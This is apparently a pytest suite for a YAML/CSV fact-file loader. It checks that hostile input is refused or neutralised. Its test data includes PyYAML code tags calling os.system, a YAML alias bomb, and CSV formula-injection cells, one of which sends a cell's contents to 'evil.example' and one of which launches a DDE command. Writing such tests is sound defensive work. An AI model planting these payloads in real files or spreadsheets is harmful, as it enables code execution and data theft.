"""Hostile and malformed YAML and CSV (SECURITY.md §8 items 43–52).

YAML is read with every scalar as the string the author wrote; code tags, anchors,
aliases, duplicate keys, tabs, NUL bytes and non-UTF-8 bytes are refused with a line.
CSV accepts a BOM and long fields, and formula-looking cells stay data and are
neutralised on CSV export.
"""

from __future__ import annotations

import csv
import io
import time

import pytest
from conftest import BASE_YAML, REPO, assert_refused, line_of, replace_line
from rdflib import XSD, Literal

from graph.build import compiled, factfile, safeyaml
from graph.build.loader import load
from graph.errors import InputError
from graph.model.vocab import DR, ID

# ---------------------------------------------------------------- YAML: code and bombs

CODE_TAGS = {
    "object-apply": 'sources: !!python/object/apply:os.system ["touch PWNED"]\n',
    "object-new": 'sources: !!python/object/new:os.system ["touch PWNED"]\n',
    "name": "sources: !!python/name:os.system\n",
    "nested": 'grants:\n  - note: !!python/object/apply:os.system ["touch PWNED"]\n',
    "custom-tag": "sources: !evil [1]\n",
    "int-tag": "sources: !!int 3\n",
}


@pytest.mark.parametrize("text", list(CODE_TAGS.values()), ids=list(CODE_TAGS))
def test_code_tags_are_refused_and_never_run(cli, write, tmp_path, monkeypatch, text):
    monkeypatch.chdir(tmp_path)
    path = write("evil.yaml", text)
    result = cli("check", str(path))
    assert_refused(result, f"{path}:{line_of(text, '!')}: tag ", "is not allowed in fact files")
    assert not (tmp_path / "PWNED").exists()
    assert not (REPO / "PWNED").exists()


def test_alias_bomb_is_refused_fast(write):
    """9 levels of 9 aliases (the billion laughs of YAML): refused at the first anchor."""
    text = 'a: &a ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]\n'
    for prev, name in zip("abcdefgh", "bcdefghi", strict=True):
        text += f"{name}: &{name} [" + ", ".join([f"*{prev}"] * 9) + "]\n"
    path = write("bomb.yaml", text)
    start = time.monotonic()
    with pytest.raises(InputError) as info:
        load([path])
    assert time.monotonic() - start < 5
    (problem,) = info.value.problems
    assert problem.line == 1
    assert "anchors (&name) are not allowed" in problem.message


def test_alias_without_anchor_is_refused(write):
    ff, problems = factfile.read(write("alias.yaml", "sources:\n  - *x\n"))
    assert ff is None
    assert [(p.line, p.message) for p in problems] == [(2, "aliases (*name) are not allowed in fact files")]


def test_merge_key_is_refused(write):
    text = "companies:\n  - &c {name: A}\n  - <<: *c\n    note: b\n"
    ff, problems = factfile.read(write("merge.yaml", text))
    assert ff is None and "anchors" in problems[0].message


@pytest.mark.parametrize(("opening", "closing"), [("[", "]"), ("{a: ", "}")], ids=["flow-seq", "flow-map"])
def test_deep_flow_nesting_is_refused(write, opening, closing):
    text = opening * 100_000 + closing * 100_000 + "\n"
    start = time.monotonic()
    ff, problems = factfile.read(write("deep.yaml", text))
    assert time.monotonic() - start < 5
    assert ff is None
    assert problems[0].line == 1
    assert "nesting deeper than" in problems[0].message


def test_deep_block_nesting_is_refused(write):
    text = "a:\n" + "".join("  " * i + "b:\n" for i in range(1, 300))
    ff, problems = factfile.read(write("deep.yaml", text))
    assert ff is None and "nesting deeper than 64 levels" in problems[0].message


def test_oversized_yaml_is_refused(write):
    text = "sources: []\n# " + "x" * (safeyaml.MAX_BYTES + 10) + "\n"
    ff, problems = factfile.read(write("huge.yaml", text))
    assert ff is None and "larger than" in problems[0].message


# ---------------------------------------------------------------- YAML: no silent retyping

RETYPABLE = ["NO", "no", "on", "Off", "yes", "y", "~", "null", "0123", "01234", "1.10", "12:30", "1e3", "0x1F",
             "0o17", ".inf", "-.nan", "2024-01-01", "1_000", "+1", "2001-12-14t21:59:43.10-05:00"]


@pytest.mark.parametrize("value", RETYPABLE)
def test_plain_scalars_stay_the_string_written(write, value):
    """Unquoted in a note and a locator, each comes through verbatim as a plain literal."""
    text = replace_line(BASE_YAML, "    note: a note\n", f"    note: {value}\n")
    text = replace_line(text, '    evidence: [{source: src, locator: "¶2"}]\n',
                        f"    evidence:\n      - source: src\n        locator: {value}\n")
    loaded = load([write("facts.yaml", text)])
    grant = ID["grant/g1"]
    note = loaded.g.value(grant, DR.note)
    assert note == Literal(value) and note.datatype is None
    claim = loaded.g.value(grant, DR.evidence)
    assert loaded.g.value(claim, DR.locator) == Literal(value)


def test_safeyaml_keeps_strings_and_lines():
    data, lines = safeyaml.load("a: NO\nb: 0123\nc: 12:30\nd: [1e3, 0x1F]\n")
    assert data == {"a": "NO", "b": "0123", "c": "12:30", "d": ["1e3", "0x1F"]}
    assert lines[("d", 1)] == 4


@pytest.mark.parametrize("value", ["NO", "on", "01234", "1.10", "12:30", "1e3", "0x1F", "2024-1-5", "2024/01/05"])
def test_retypable_values_in_a_date_field_are_refused(cli, write, value):
    text = replace_line(BASE_YAML, '    valid_from: "2012"\n', f"    valid_from: {value}\n")
    path = write("facts.yaml", text)
    result = cli("check", str(path))
    assert_refused(result, f"{path}:{line_of(text, 'valid_from:')}: grants[0].valid_from: '{value}'")


def test_four_digit_year_with_leading_zero_stays_as_written(write):
    """``0123`` is a valid YYYY: kept as the gYear "0123", never the octal 83 or the int 123."""
    text = replace_line(BASE_YAML, '    valid_from: "2012"\n', "    valid_from: 0123\n")
    loaded = load([write("facts.yaml", text)])
    assert loaded.g.value(ID["grant/g1"], DR.validFrom) == Literal("0123", datatype=XSD.gYear)



@pytest.mark.parametrize("value", ["1e3", "0x1F", "1.10", "1,000"] + ["-5"])
def test_non_digit_affected_count_is_refused(cli, write, value):
    text = replace_line(BASE_YAML, "    recipients: [public]\n", f"    recipients: [public]\n    affected: {value}\n")
    path = write("facts.yaml", text)
    result = cli("check", str(path))
    assert_refused(result, f"{path}:{line_of(text, 'affected:')}: incidents[0].affected: ")


def test_yes_no_field_takes_only_the_words(write):
    text = replace_line(BASE_YAML, "    status: shut down\n", "    status: shut down\n    on_by_default: yes\n")
    loaded = load([write("facts.yaml", text)])
    assert loaded.g.value(ID["grant/g1"], DR.onByDefault) == Literal(True)


# ---------------------------------------------------------------- YAML: structure and bytes


def test_duplicate_keys_are_refused_with_both_lines(cli, write):
    text = replace_line(BASE_YAML, "    publisher: Example Press\n", "    publisher: Example Press\n    publisher: Other\n")
    path = write("dup.yaml", text)
    assert_refused(cli("check", str(path)),
                   f"{path}:4: duplicate key 'publisher' (first at line 3)")


def test_duplicate_top_level_section_is_refused(write):
    text = BASE_YAML + "grants: []\n"
    ff, problems = factfile.read(write("dup.yaml", text))
    assert ff is None
    assert problems[0].line == text.count("\n")
    assert "duplicate key 'grants'" in problems[0].message


def test_tab_indentation_is_refused_with_a_line(cli, write):
    text = replace_line(BASE_YAML, "    grantee: Spotify\n", "\tgrantee: Spotify\n")
    path = write("tabs.yaml", text)
    assert_refused(cli("check", str(path)), f"{path}:{line_of(text, 'grantee')}: not valid YAML")


def test_bom_is_accepted(write):
    path = write("bom.yaml", data=b"\xef\xbb\xbf" + BASE_YAML.encode("utf-8"))
    loaded = load([path])
    assert compiled.summarise(loaded.g)["grants"] == 1


@pytest.mark.parametrize("where", ["value", "comment", "key"])
def test_nul_byte_is_refused_with_a_line(cli, write, where):
    old = {"value": "    grantee: Spotify\n", "comment": "companies:\n", "key": "    grantee: Spotify\n"}[where]
    new = {"value": "    grantee: Spo\x00tify\n", "comment": "companies: # \x00\n", "key": "    gran\x00tee: Spotify\n"}[where]
    text = replace_line(BASE_YAML, old, new)
    path = write("nul.yaml", text)
    assert_refused(cli("check", str(path)), f"{path}:{line_of(text, chr(0))}: contains a NUL byte")


@pytest.mark.parametrize("data", [b"\xff\xfe", b"caf\xe9", b"\xc3\x28", b"\xed\xa0\x80"],
                         ids=["utf16-bom", "latin1", "bad-continuation", "surrogate"])
def test_non_utf8_bytes_are_refused(cli, write, data):
    raw = BASE_YAML.encode("utf-8").replace(b"Example Press", b"Example " + data)
    path = write("latin1.yaml", data=raw)
    assert_refused(cli("check", str(path)), f"{path}: not UTF-8 text (byte ")


@pytest.mark.parametrize("text", ["- a\n- b\n", "just text\n", "'quoted'\n"], ids=["list", "plain", "quoted"])
def test_top_level_must_be_a_mapping(write, text):
    ff, problems = factfile.read(write("list.yaml", text))
    assert ff is None and problems[0].line == 1 and "a fact file is a mapping" in problems[0].message


def test_complex_key_is_refused(write):
    ff, problems = factfile.read(write("key.yaml", "? [a, b]\n: c\n"))
    assert ff is None and problems[0].message == "mapping keys must be plain text"


def test_empty_yaml_file_loads_as_nothing(write):
    loaded = load([write("empty.yaml", "# nothing yet\n"), write("facts.yaml", BASE_YAML)])
    assert compiled.summarise(loaded.g)["grants"] == 1


def test_unclosed_quote_is_refused_with_a_line(write):
    text = replace_line(BASE_YAML, "    grantee: Spotify\n", '    grantee: "Spotify\n')
    ff, problems = factfile.read(write("q.yaml", text))
    assert ff is None and problems[0].line is not None and "not valid YAML" in problems[0].message


# ---------------------------------------------------------------- CSV

DECLARATIONS = """\
sources:
  - {id: src, publisher: Example Press, title: A report, date: "2018-12-20", url: "https://example.org/a"}
companies:
  - name: Facebook
  - name: Spotify
  - name: Netflix
  - name: "@SUM(A1:A9)"
"""
HEADER = "id,grantor,grantee,integration,data_types,permissions,activation,status,note,source,locator,stance,claimant\n"
ROW = "g1,Facebook,Spotify,messaging integration,private message,read,signed in,active,,src,¶1,,\n"


@pytest.fixture
def decls(write):
    return write("declarations.yaml", DECLARATIONS)


def test_csv_with_bom_header_loads(write, decls):
    path = write("grants.csv", data=b"\xef\xbb\xbf" + (HEADER + ROW).encode("utf-8"))
    loaded = load([decls, path])
    assert (ID["grant/g1"], DR.grantee, ID["company/spotify"]) in loaded.g


def test_csv_semicolon_lists_are_split(write, decls):
    row = ("g1,Facebook,Spotify,messaging integration, private message ; message thread participants ;,"
           "read;write;delete,,shut down,,src,¶1,,\n")
    loaded = load([decls, write("grants.csv", HEADER + row)])
    grant = ID["grant/g1"]
    assert set(loaded.g.objects(grant, DR.permission)) == {DR.read, DR.write, DR.delete}
    assert len(set(loaded.g.objects(grant, DR.dataType))) == 2
    assert loaded.g.value(grant, DR.status) == DR.ShutDown


def test_csv_long_field_within_the_schema_limit_loads(write, decls):
    note = "x" * 19_000
    loaded = load([decls, write("grants.csv", HEADER + ROW.replace(",active,,", f",active,{note},"))])
    assert loaded.g.value(ID["grant/g1"], DR.note) == Literal(note)


def test_csv_200k_character_field_is_read_and_refused_cleanly(cli, write, decls):
    """The CSV reader takes a 200,000-character cell (no csv field-limit error); the
    schema caps a note at 20,000 characters, so the row is refused with its line."""
    path = write("grants.csv", HEADER + ROW + ROW.replace("g1,", "g2,").replace(",active,,", f",active,{'y' * 200_000},"))
    start = time.monotonic()
    result = cli("check", str(decls), str(path))
    assert time.monotonic() - start < 5
    assert_refused(result, f"{path}:3: grants[1].note: ")
    assert "field larger than field limit" not in result.stderr
    assert len(result.stderr) < 2_000


def test_too_long_value_message_says_what_the_limit_is(cli, write, decls):
    path = write("grants.csv", HEADER + ROW.replace(",active,,", f",active,{'y' * 200_000},"))
    result = cli("check", str(decls), str(path))
    assert_refused(result, f"{path}:2: grants[0].note: ", "20000")


def test_csv_field_over_the_reader_limit_is_refused_cleanly(cli, write, decls):
    path = write("grants.csv", HEADER + ROW.replace(",active,,", f",active,{'z' * (factfile.MAX_CSV_FIELD + 1)},"))
    assert_refused(cli("check", str(decls), str(path)), f"{path}:", "not valid CSV")


def test_csv_unknown_column_suggests_the_nearest(cli, write, decls):
    path = write("grants.csv", HEADER.replace("permissions", "permision") + ROW)
    assert_refused(cli("check", str(decls), str(path)),
                   f"{path}:1: header: unknown column 'permision' — did you mean 'permissions'?")


def test_csv_unknown_data_type_names_the_row_line(cli, write, decls):
    row2 = ROW.replace("g1,", "g2,").replace("private message", "phone nubmer")
    path = write("grants.csv", HEADER + ROW + row2)
    assert_refused(cli("check", str(decls), str(path)),
                   f"{path}:3: grants[1].data_types[0]: unknown data type 'phone nubmer' — did you mean 'phone number'?")


def test_csv_multiline_row_is_reported_at_its_first_line(cli, write, decls):
    row = ROW.replace(",active,,", ',active,"two\nlines",').replace("private message", "phone nubmer")
    path = write("grants.csv", HEADER + row)
    assert_refused(cli("check", str(decls), str(path)), f"{path}:2: grants[0].data_types[0]")


def test_csv_row_without_evidence_is_refused(cli, write, decls):
    row2 = "g2,Facebook,Netflix,messaging integration,private message,read,,active,,,,,\n"
    path = write("grants.csv", HEADER + ROW + row2)
    assert_refused(cli("check", str(decls), str(path)), f"{path}:3: grants[1]: missing a citation")


def test_csv_row_with_source_but_no_locator_is_refused(write, decls):
    """Schema level: the claim lacks its locator (the full load crashes, see the xfail above)."""
    row2 = "g2,Facebook,Netflix,messaging integration,private message,read,,active,,src,,,\n"
    ff, problems = factfile.read(write("grants.csv", HEADER + ROW + row2))
    assert ff is not None
    assert [(p.line, p.field, p.message) for p in problems] == [(3, "grants[1].evidence[0]", "missing field 'locator'")]


def test_csv_row_with_too_many_cells_is_refused(write, decls):
    ff, problems = factfile.read(write("grants.csv", HEADER + ROW.rstrip("\n") + ",extra\n"))
    assert problems and problems[0].line == 2


def test_csv_row_with_too_many_cells_says_so(cli, write, decls):
    path = write("grants.csv", HEADER + ROW.rstrip("\n") + ",extra\n")
    result = cli("check", str(decls), str(path))
    assert_refused(result, f"{path}:2: ", "more cells than columns")
    assert "_extra" not in result.stderr


def test_csv_duplicate_column_is_refused(cli, write, decls):
    path = write("grants.csv", "grantor,grantee,grantee,integration,data_types,source,locator\n"
                               "Facebook,Spotify,Netflix,messaging integration,private message,src,x\n")
    assert_refused(cli("check", str(decls), str(path)), f"{path}:1: header", "grantee")


def test_csv_broken_quoting_is_refused(cli, write, decls):
    path = write("grants.csv", HEADER + ROW.replace("signed in", '"signed"in'))
    result = cli("check", str(decls), str(path))
    assert_refused(result, f"{path}:", "not valid CSV: ',' expected after '\"'")


def test_csv_broken_quoting_names_its_line(cli, write, decls):
    bad = ROW.replace("g1,", "g2,").replace("signed in", '"signed"in')
    path = write("grants.csv", HEADER + ROW + ROW.replace("g1,", "g3,") + bad)
    assert_refused(cli("check", str(decls), str(path)), f"{path}:4: not valid CSV")


@pytest.mark.parametrize("text", ["", "\ufeff", "\n"], ids=["empty", "bom-only", "blank-line"])
def test_csv_without_header_is_refused(write, text):
    ff, problems = factfile.read(write("grants.csv", text))
    assert ff is None and problems


def test_csv_nul_byte_is_refused(cli, write, decls):
    path = write("grants.csv", HEADER + ROW.replace("signed in", "signed\x00in"))
    assert_refused(cli("check", str(decls), str(path)), f"{path}:2: contains a NUL byte")


FORMULAS = {
    "activation": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "claimant": "+cmd|' /C calc'!A0",
    "grantee": "@SUM(A1:A9)",
}


def test_csv_formula_cells_load_as_data_and_export_neutralised(cli, write, decls, tmp_path):
    rows = io.StringIO()
    writer = csv.writer(rows, lineterminator="\n")
    writer.writerow(["g9", "Facebook", FORMULAS["grantee"], "messaging integration", "private message", "read",
                     FORMULAS["activation"], "active", "", "src", "¶1", "disputes", FORMULAS["claimant"]])
    path = write("grants.csv", HEADER + rows.getvalue())
    loaded = load([decls, path])
    grant = ID["grant/g9"]
    assert loaded.g.value(grant, DR.activation) == Literal(FORMULAS["activation"])
    claim = loaded.g.value(grant, DR.evidence)
    assert loaded.g.value(claim, DR.claimant) == Literal(FORMULAS["claimant"])

    out = tmp_path / "out"
    result = cli("--sources", str(decls), "--sources", str(path), "--quiet", "table", "--format", "csv", out=out)
    assert result.exit_code == 0, result.output
    table = list(csv.DictReader(io.StringIO(result.stdout)))
    (row,) = table
    assert row["label"] == "'" + FORMULAS["grantee"]
    assert row["activation"] == "'" + FORMULAS["activation"]
    assert FORMULAS["claimant"] in row["disputes"] and row["disputes"].startswith("disputed by ")
    for cells in table:
        for value in cells.values():
            assert not value.startswith(("=", "+", "-", "@")), value


def test_several_missing_fields_are_named_once_not_repeated(write):
    """jsonschema 4.2x reports one error per missing field; the explanation used to repeat the first."""
    ff, problems = factfile.read(write("g.yaml", "grants:\n  - grantor: Nobody\n"))
    assert [(p.line, p.field, p.message) for p in problems] == [
        (2, "grants[0]", "missing fields 'grantee', 'integration', 'data_types' and a citation "
                         "(evidence: with source and locator)")]
